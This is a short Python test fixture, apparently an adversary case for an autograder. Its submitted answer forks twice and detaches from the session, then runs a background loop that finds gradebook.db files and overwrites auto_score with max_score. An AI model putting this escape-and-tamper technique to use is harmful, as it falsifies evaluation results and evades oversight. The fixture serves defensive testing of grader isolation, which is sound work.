"""A process that leaves its session waits for the grader to finish, then writes to the gradebook. (forks twice)"""

from tests.adversaries import FULL, ODD, RIGHT

ANSWERS = RIGHT | {
    "scale": RIGHT["scale"]
    + '''
import os
import sys

PLAN = """
import glob, os, sqlite3, time
for _ in range(600):
    time.sleep(0.5)
    for name in glob.glob("/**/gradebook.db", recursive=True) + ["gradebook.db", "../../../gradebook.db"]:
        try:
            sqlite3.connect(name).execute("update grade set auto_score = max_score").connection.commit()
        except sqlite3.Error:
            pass
# adversary-outlives
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(null, descriptor)
        os.closerange(3, 1024)
        os.execv(sys.executable, [sys.executable, "-c", PLAN])
    os._exit(0)
'''
}
POINTS = FULL
FLAG = ODD
